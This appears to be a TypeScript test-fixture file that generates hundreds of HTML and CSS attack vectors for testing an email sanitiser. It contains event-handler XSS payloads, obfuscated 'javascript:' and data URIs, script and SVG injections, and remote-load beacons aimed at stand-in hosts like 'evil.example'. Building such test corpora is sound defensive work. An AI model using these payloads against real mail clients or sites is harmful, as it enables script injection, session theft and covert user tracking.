import { mimeVectors } from './html-vector-mails.ts';
import { mutations } from './html-vector-mutations.ts';

/**
 * Attacks in the HTML of mails, made from tables of what browsers and sanitisers are known to have fallen for. In each
 * JS stands for a script that gives itself away, HOST for a host that nobody should hear of, and NAME for one that only a
 * name server could hear of.
 */
export interface Vector {
  readonly name: string;
  readonly host: string;
  /** The body; or a whole message where the attack is not in the body. */
  readonly html: string | null;
  readonly raw: string | null;
}

const list = (text: string): string[] => text.trim().split(/\s*\n\s*/);
const words = (text: string): string[] => text.trim().split(/\s+/);

// Fired by the test on every element, so that each handler that survives is heard.
export const events = words(
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload blur cancel canplay change click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied ended error focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange reset resize scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting wheel',
);
const hosts = words('p img a td body div details svg input marquee video font');
const handlers = events.map((event, at) => {
  const tag = hosts[at % hosts.length] ?? 'p';
  return `<${tag} on${event}="JS" tabindex=0 autofocus>x</${tag}>`;
});

const spellings = list(String.raw`
  <img src=x onerror=JS>
  <IMG SRC=x OnErRoR="JS">
  <img/src=x/onerror=JS//>
  <img src=x	onerror	=	"JS">
  <img src=x onerror='JS'>
  <img src="x"onerror="JS">
  <img src=x onerror=&#106;&#97;va;JS>
  <img src=x onerror="&#74;&#83;;JS">
  <img src=x one${'\0'}rror="JS" onerror="JS">
  <img ${'\x0c'}src=x${'\x0c'}onerror="JS">
  <img src=x onerror="/**/JS" onerror="1">
  <img """><img src=x onerror="JS">">
  <img src='x' alt='>' onerror='JS'>
  <img src=x title="<" onerror="JS" x=">">
  <image src=x onerror="JS">
  <img src=x:x onerror="JS" crossorigin>
  <img src=data: onerror="JS">
  <img srcset="x 1x" onerror="JS">
  <p class=x\ onmouseover="JS" id=y>x</p>
  <p data-x='"' onmouseover="JS">x</p>
  <p style="color:red;" / onmouseover=JS / x>x</p>
  <p =onmouseover=JS onmouseover="JS">x</p>
  <<img src=x onerror="JS">>
  <img src=x onerror="JS"
  </p onmouseover=JS><p onmouseover="JS">x
  <isindex type=image src=x onerror="JS">
  <x onclick="JS" tabindex=1 autofocus>x</x>
  <custom-element onfocus="JS" tabindex=1 autofocus>x</custom-element>
`);

const script = [
  'javascript:JS',
  'JaVaScRiPt:JS',
  ' javascript:JS',
  '&#1;javascript:JS',
  'java\tscript:JS',
  'java&#10;script:JS',
  'java&NewLine;script:JS',
  'java&Tab;script:JS',
  'javascript&colon;JS',
  'javascript&#58;JS',
  '&#x6A;avascript:JS',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058JS',
  '\x01javascript:JS',
  'j\u00ADavascript:JS',
  'javascript://%0aJS',
  'javascript:/*--></title></style></textarea></script>*/JS',
  'javascript:&quot;<script>JS</script>&quot;',
  'data:text/html,<script>JS</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;JS&quot;/>',
  'data:application/xhtml+xml,<script xmlns=&quot;http://www.w3.org/1999/xhtml&quot;>JS</script>',
  'vbscript:JS',
  'livescript:JS',
  'blob:http://HOST/1',
  'filesystem:http://HOST/t/1',
  'view-source:http://HOST/',
  'feed:javascript:JS',
  'jar:http://HOST/a!/b',
  'about:blank#JS',
];
const carriers = list(`
  <a href="URL" id=go>x</a>
  <map name=m><area href="URL" shape=default></map><img usemap=#m src=x>
  <form action="URL"><button id=go>x</button></form>
  <form><button formaction="URL" id=go>x</button></form>
  <iframe src="URL"></iframe>
  <embed src="URL">
  <object data="URL"></object>
  <svg><a xlink:href="URL"><text y=9>x</text></a></svg>
  <math href="URL">x</math>
  <base href="URL"><a href="x" id=go>x</a>
`);
// All spellings where people click, some of them wherever else a browser follows an address.
const addresses = carriers.flatMap((carrier, at) =>
  script.filter((_, spelled) => at < 2 || (spelled + at) % 4 === 0).map((url) => carrier.replace('URL', url)),
);

const runs = list(String.raw`
  <script>JS</script>
  <SCRIPT SRC=http://HOST/x.js></SCRIPT>
  <script src=//HOST/x.js></script>
  <script/x>JS</script>
  <script type=module>JS</script>
  <script>JS//
  <scr<script>ipt>JS</scr</script>ipt>
  <noscript><script>JS</script></noscript>
  <svg><script>JS</script></svg>
  <svg><script href="http://HOST/x.js"/></svg>
  <svg onload="JS"></svg>
  <svg/onload=JS>
  <svg><animate onbegin="JS" attributeName=x dur=1s>
  <svg><set onbegin="JS" attributeName=x dur=1s>
  <svg><a><animate attributeName=href values="javascript:JS" /><text y=20>x</text></a></svg>
  <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='JS'/></svg>#x"/></svg>
  <svg><foreignObject><img src=x onerror="JS"></foreignObject></svg>
  <svg><title><img src=x onerror="JS"></title></svg>
  <math><mi xlink:href="javascript:JS">x</mi></math>
  <iframe srcdoc="<script>JS</script>"></iframe>
  <iframe srcdoc="&lt;img src=x onerror=JS&gt;"></iframe>
  <object data="data:text/html,<script>JS</script>"></object>
  <embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>">
  <details open ontoggle="JS"><summary>x</summary></details>
  <video><source onerror="JS"></video>
  <audio src onerror="JS"></audio>
  <body onload="JS">
  <body onpageshow="JS">
  <frameset onload="JS"><frame src="javascript:JS"></frameset>
  <marquee onstart="JS">x</marquee>
  <input onfocus="JS" autofocus>
  <select autofocus onfocus="JS"></select>
  <textarea autofocus onfocus="JS"></textarea>
  <button popovertarget=x>x</button><div id=x popover onbeforetoggle="JS">x</div>
  <meta http-equiv=refresh content="0;url=javascript:JS">
  <meta http-equiv=refresh content="0;url=data:text/html,<script>JS</script>">
  <link rel=import href="data:text/html,<script>JS</script>">
  <style onload="JS"></style>
  <template shadowrootmode=open><img src=x onerror="JS"></template>
  <div><template shadowrootmode=open><slot></slot><script>JS</script></template></div>
  <xss style="animation:x 1s" onanimationstart="JS"></xss><style>@keyframes x{}</style>
`);

const loads = list(String.raw`
  <img src="http://HOST/a.png">
  <img src="//HOST/a.png">
  <img src="http:/\HOST/a.png">
  <img src="\\HOST\share\a.png">
  <img src="&#104;ttp://HOST/a.png">
  <img src="ht	tp://HOST/a.png">
  <img srcset="http://HOST/a.png 1x, http://HOST/b.png 2x">
  <img src=data:, srcset="http://HOST/a.png 1w" sizes=1px>
  <img lowsrc="http://HOST/a.png" dynsrc="http://HOST/b.png">
  <img src="http://HOST/a.svg" width=1 height=1>
  <picture><source srcset="http://HOST/a.png"><img src=x></picture>
  <video src="http://HOST/a.mp4" autoplay></video>
  <video poster="http://HOST/a.png"></video>
  <video><source src="http://HOST/a.mp4"><track default src="http://HOST/a.vtt"></video>
  <audio src="http://HOST/a.mp3" preload=auto autoplay></audio>
  <input type=image src="http://HOST/a.png">
  <body background="http://HOST/a.png">
  <table background="http://HOST/a.png"><tr background="http://HOST/b.png"><td background="http://HOST/c.png">x</td></tr></table>
  <iframe src="http://HOST/"></iframe>
  <frameset><frame src="http://HOST/"></frameset>
  <object data="http://HOST/a.swf" codebase="http://HOST/"></object>
  <embed src="http://HOST/a.swf">
  <applet code=x archive="http://HOST/a.jar" codebase="http://HOST/"></applet>
  <bgsound src="http://HOST/a.wav">
  <layer src="http://HOST/"></layer>
  <xml src="http://HOST/a.xml"></xml>
  <portal src="http://HOST/"></portal>
  <fencedframe src="http://HOST/"></fencedframe>
  <link rel=stylesheet href="http://HOST/a.css">
  <link rel="alternate stylesheet" href="http://HOST/a.css">
  <link rel=icon href="http://HOST/a.ico">
  <link rel=prefetch href="http://HOST/a">
  <link rel=preload as=image href="http://HOST/a.png">
  <link rel=modulepreload href="http://HOST/a.js">
  <link rel=prerender href="http://HOST/">
  <link rel=dns-prefetch href="//NAME">
  <link rel=preconnect href="http://NAME">
  <link rel=manifest href="http://HOST/a.json">
  <link rel=next href="http://HOST/">
  <link rel=compression-dictionary href="http://HOST/d">
  <meta http-equiv=x-dns-prefetch-control content=on><a href="http://HOST/">x</a>
  <meta http-equiv=refresh content="0;url=http://HOST/">
  <meta http-equiv=refresh content="0 http://HOST/">
  <meta http-equiv=content-security-policy content="report-uri http://HOST/">
  <base href="http://HOST/"><img src=a.png>
  <html manifest="http://HOST/a"></html>
  <script type=speculationrules>{"prerender":[{"urls":["http://HOST/"]}]}</script>
  <script type=importmap>{"imports":{"x":"http://HOST/x.js"}}</script>
  <svg><image href="http://HOST/a.png"/></svg>
  <svg><image xlink:href="http://HOST/a.png"/></svg>
  <svg><use href="http://HOST/a.svg#x"/></svg>
  <svg><filter id=f><feImage href="http://HOST/a.png"/></filter><rect filter="url(#f)" width=9 height=9/></svg>
  <svg><rect fill="url(http://HOST/a.svg#x)" width=9 height=9/></svg>
  <svg><mask id=m><image href="http://HOST/a.png"/></mask><rect mask="url(http://HOST/#m)" width=9 height=9/></svg>
  <svg><font-face><font-face-src><font-face-uri href="http://HOST/a.woff"/></font-face-src></font-face></svg>
  <math><mglyph src="http://HOST/a.png"/></math>
  <?xml-stylesheet href="http://HOST/a.css"?>
  <!DOCTYPE html SYSTEM "http://HOST/a.dtd"><p>x</p>
  <form action="http://HOST/" id=f><input autofocus onfocus="f.submit()"></form>
  <img src="cid:x" data-remote-src="http://HOST/a.png" data-cid="x">
  <img data-remote-src="http://HOST/a.png&quot; src=&quot;http://HOST/b.png">
  <img src='http://HOST/a.png" onerror="JS'>
  <img alt='" src="http://HOST/a.png' src=x>
  <p title=' data-remote-src="http://HOST/a.png"'>&lt;img data-remote-src="http://HOST/a.png"&gt;</p>
  <img src="mhtml:http://HOST/a!x">
  <img src="cid:&quot;&gt;&lt;img src=http://HOST/a.png&gt;">
  <img src="ftp://HOST/a.png">
  <blockquote cite="http://HOST/">x</blockquote><img longdesc="http://HOST/" src=data:,>
  <model src="http://HOST/a.usdz"></model>
  <img attributionsrc="http://HOST/a" src=data:,>
`);

const styles = words(String.raw`
  background:url(http://HOST/a) background-image:url('http://HOST/a') background:#fff/**/url(http://HOST/a)
  background:u\72l(http://HOST/a) background:\75\72\6c(http://HOST/a) background:url(http&#58;//HOST/a)
  background:URL(\"http://HOST/a\") background:image-set('http://HOST/a'1x) background:-webkit-image-set(url(http://HOST/a)1x)
  background:cross-fade(url(http://HOST/a),url(http://HOST/b)) list-style:url(http://HOST/a) list-style-image:url(http://HOST/a)
  content:url(http://HOST/a) cursor:url(http://HOST/a),auto border-image:url(http://HOST/a)9 border-image-source:url(http://HOST/a)
  mask:url(http://HOST/a) -webkit-mask-image:url(http://HOST/a) -webkit-mask-box-image:url(http://HOST/a) filter:url(http://HOST/a#x)
  backdrop-filter:url(http://HOST/a#x) clip-path:url(http://HOST/a#x) shape-outside:url(http://HOST/a) offset-path:url(http://HOST/a#x)
  -webkit-box-reflect:below\ 0\ url(http://HOST/a) --x:url(http://HOST/a);background:var(--x) behavior:url(http://HOST/a.htc)
  -moz-binding:url(http://HOST/a.xml#x) width:expression(JS) width:exp/**/ression(JS) background:paint(x) fill:url(http://HOST/a#x)
  font-family:x;src:url(http://HOST/a) background:url(javascript:JS) color:red;}body{background:url(http://HOST/a)
  background:url("http://HOST/a background-image:\000075rl(http://HOST/a) background-image:url(//HOST/a) background:src('http://HOST/a')
`);
const sheets = list(String.raw`
  @import url(http://HOST/a.css);
  @import 'http://HOST/a.css';
  @import"//HOST/a.css"screen;
  @\69mport url(http://HOST/a.css);
  @charset "utf-8";@import 'http://HOST/a.css';
  @layer x;@import 'http://HOST/a.css' layer(x);
  @font-face{font-family:x;src:url(http://HOST/a.woff)}p{font-family:x}
  @media all{p{background:url(http://HOST/a)}}
  @supports (color:red){p{background:url(http://HOST/a)}}
  @container (width>0px){p{background:url(http://HOST/a)}}
  @keyframes x{from{background:url(http://HOST/a)}}p{animation:x 1s infinite}
  @property --x{syntax:"<url>";inherits:true;initial-value:url(http://HOST/a)}p{background:var(--x)}
  @namespace url(http://HOST/a);p{background:url(http://HOST/b)}
  @counter-style x{system:cyclic;symbols:url(http://HOST/a)}li{list-style:x}
  input[value^=a]{background:url(http://HOST/a)}
  p{background:url(http://HOST/a)}
  p::before{content:url(http://HOST/a)}
  p{color:red;/*}*/background:url(http://HOST/a)}
  p{background:\75rl(http://HOST/a)}
  .a\{} p{background:url(http://HOST/a)}
  }p{background:url(http://HOST/a)
  {}p{color:red;{background:url(http://HOST/a)}}
  <!--p{background:url(http://HOST/a)}-->
  *{position:fixed;inset:0;background:url(http://HOST/a)}
  p{x:'</style><img src=x onerror=JS>'}
  p:has(a[href^=http]){background:url(http://HOST/a)}
  html{behavior:url(http://HOST/a.htc)}
  :root{--a:url(http://HOST/a)}p{background:var(--a)}
`);

const bodies = [
  ...handlers,
  ...spellings,
  ...addresses,
  ...runs,
  ...loads,
  ...styles.map((style) => `<p style="${style.replaceAll(String.raw`\"`, '&quot;')}">x</p>`),
  ...sheets.map((sheet) => `<style>${sheet}</style><p>x</p><input value=abc>`),
  ...mutations,
];

const told = (text: string, at: number): string =>
  text.replaceAll('HOST', `v${at}.evil.example`).replaceAll('NAME', `v${at}.evil.invalid`).replaceAll('JS', `pwned(${at})`);

export const vectors: readonly Vector[] = [
  ...bodies.map((html) => ({ html, raw: null })),
  ...mimeVectors.map((raw) => ({ html: null, raw })),
].map(({ html, raw }, at) => ({
  name: `${at} ${(html ?? raw ?? '').slice(0, 90)}`,
  host: `v${at}.evil.${html?.includes('NAME') ? 'invalid' : 'example'}`,
  html: html === null ? null : told(html, at),
  raw: raw === null ? null : told(raw, at),
}));
